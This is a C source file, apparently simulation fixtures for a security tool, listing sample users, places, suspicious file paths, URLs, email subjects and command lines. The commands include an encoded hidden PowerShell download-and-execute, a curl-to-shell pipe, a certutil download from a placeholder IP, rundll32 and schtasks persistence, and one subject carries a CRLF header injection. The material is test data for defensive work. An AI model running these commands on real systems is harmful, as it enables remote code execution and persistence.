/* tools/sim/sim_names.c -- the people, places and things of the records. */
/* SPDX-License-Identifier: ISC */
#include "tools/sim/sim_names.h"

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

const struct sim_person sim_persons[] = {
	{ "ines.vieira", "Inês Vieira" },
	{ "j.oconnell", "Jo O'Connell" },
	{ "zoe.mueller", "Zoë Müller-Lüdenscheidt" },
	{ "t.yamada", "山田 太郎" },
	{ "o.ivanov", "Олег Иванов" },
	{ "l.haddad", "ليلى حداد" },
	{ "avi.barlev", "אבי בר-לב" },
	{ "svc-backup$", "" },
	{ "priya.raman", "Priya Raman (Contractor)" },
	{ "w.zhang", "张伟" },
	{ "mjensen", "Mads Jensen; Finance" },
	{ "elodie.lefevre", "\\u00c9lodie Lef\\u00e8vre" },
	{ "s.kim", "김서연" },
	{ "admin-breakglass", "Break Glass = Admin" },
	{ "n.papadopoulou", "Νίκη Παπαδοπούλου" },
	{ "d.novakova", "Dana Nováková" },
	{ "k.ozturk", "Kağan Öztürk" },
	{ "meeting.room-3", "Meeting Room 3 | Floor 2" },
	{ "r.silva", "Rui Silva\\tSantos" },
	{ "a.kowalska", "Agnieszka \\\"Aga\\\" Kowalska" },
	{ "hr-bot", "HR Bot \\ud83e\\udd16" },
	{ "nguyen.thi.mai", "Nguyễn Thị Mai" },
	{ "contoso\\\\legacy", "Legacy Account" },
	{ "b.fischer", "Bernd Fischer" },
};
const size_t sim_n_persons = COUNT(sim_persons);

#define AT(lat, lon) "\"latitude\":" lat ",\"longitude\":" lon

const struct sim_place sim_places[] = {
	{ "Porto", "Portugal", "PT", AT("41.15", "-8.61") },
	{ "Zürich", "Switzerland", "CH", AT("47.3769", "8.5417") },
	{ "Osaka", "Japan", "JP", AT("34.69374", "135.50218") },
	{ "São Paulo", "Brazil", "BR", AT("-23.5475", "-46.63611") },
	{ "Nairobi", "Kenya", "KE", AT("-1.28333", "36.81667") },
	{ "", "", "", AT("null", "null") },
	{ "Montréal", "Canada", "CA", AT("45.50884", "-73.58781") },
	{ "Санкт-Петербург", "Russia", "RU", AT("59.93863", "30.31413") },
	{ "Tallinn", "Estonia", "EE", AT("59.43696", "24.75353") },
	{ "Longyearbyen", "Norway", "NO", AT("7.822e1", "15.65") },
	{ "القاهرة", "Egypt", "EG", AT("30.06263", "31.24967") },
};
const size_t sim_n_places = COUNT(sim_places);

const struct sim_file sim_files[] = {
	{ "C:\\\\Users\\\\Public\\\\Downloads", "invoice_0442.pdf.exe" },
	{ "C:\\\\Windows\\\\System32", "rundll32.exe" },
	{ "C:\\\\ProgramData\\\\Packages", "updater-x64.msi" },
	{ "/opt/app/releases/2026-02", "libloader.so.1" },
	{ "/home/build/.cache/tmp", "a" },
	{ "\\\\\\\\files01\\\\Finanz$\\\\2026", "Löhne Q1 (vertraulich).xlsx" },
	{ "https://contoso.example/sites/rd/Shared Documents",
	    "設計図 v2.dwg" },
	{ "", "kunden=liste|alle.csv" },
	{ "/Library/LaunchAgents", "com.example.helper.plist" },
	{ "C:\\\\Windows\\\\SysWOW64\\\\WindowsPowerShell\\\\v1.0",
	    "powershell.exe" },
	{ "D:\\\\Exports", "patients_2025_final_FINAL(2).accdb" },
};
const size_t sim_n_files = COUNT(sim_files);

const char *const sim_domains[] = {
	"contoso.example",
	"corp.contoso.example",
	"fabrikam.onmicrosoft.example",
	"xn--bcher-kva.example",
};
const size_t sim_n_domains = COUNT(sim_domains);

const char *const sim_hosts[] = {
	"lap",
	"desk",
	"srv-file",
	"k8s-node",
	"mac",
	"RZ-BÜRO",
	"vdi-pool",
	"build",
};
const size_t sim_n_hosts = COUNT(sim_hosts);

const char *const sim_commands[] = {
	"\\\"rundll32.exe\\\" \\\"C:\\\\ProgramData\\\\lib.dat\\\",Entry /q",
	"powershell.exe -NoP -W Hidden -Enc "
	"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp"
	"AGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAA"
	"OgAvAC8AZQB4AGEAbQBwAGwAZQAuAG8AcgBnAC8AYQAnACkA",
	"/bin/sh -c 'curl -s http://updates.example.net/i.sh | sh -s -- "
	"--key=a=b --out=/tmp/.x'",
	"cmd.exe /c \\\"whoami /all > %TEMP%\\\\out.txt & type "
	"%TEMP%\\\\out.txt\\\"",
	"",
	"schtasks /create /tn \\\"Überprüfung\\\" /tr C:\\\\t\\\\a.cmd /sc "
	"onlogon /f",
	"python3 - <<'EOF'\\nimport os\\nos.system(\\\"id\\\")\\nEOF",
	"certutil -urlcache -split -f http://192.0.2.77/a.txt "
	"C:\\\\Windows\\\\Temp\\\\a.txt",
};
const size_t sim_n_commands = COUNT(sim_commands);

const char *const sim_urls[] = {
	"https://login.contoso-secure.example/?user=1&next=%2Fhome%3Fa%3Db#",
	"http://198.51.100.9:8080/dl/",
	"https://files.example.net/share/a|b=c;d/",
	"https://xn--mller-kva.example/konto/",
	"https://[2001:db8::1f]/beacon?id=",
	"https://accounts.example.org/o/oauth2?scope=openid%20email&state=",
};
const size_t sim_n_urls = COUNT(sim_urls);

const char *const sim_subjects[] = {
	"Re: payroll run = final | please approve",
	"[EXTERNAL] Your parcel is waiting\\u200b",
	"請求書の確認をお願いします",
	"Rechnung Nr. 4711 \\u2013 überfällig!",
	"\\ud83c\\udf81 You have won",
	"",
	"Fwd: Fwd: minutes\\r\\nBcc: everyone@contoso.example",
	"Q3 \\\"draft\\\" figures \\\\ do not share",
	"فاتورة مستحقة الدفع",
	"Compte\\u00a0rendu de la réunion",
};
const size_t sim_n_subjects = COUNT(sim_subjects);
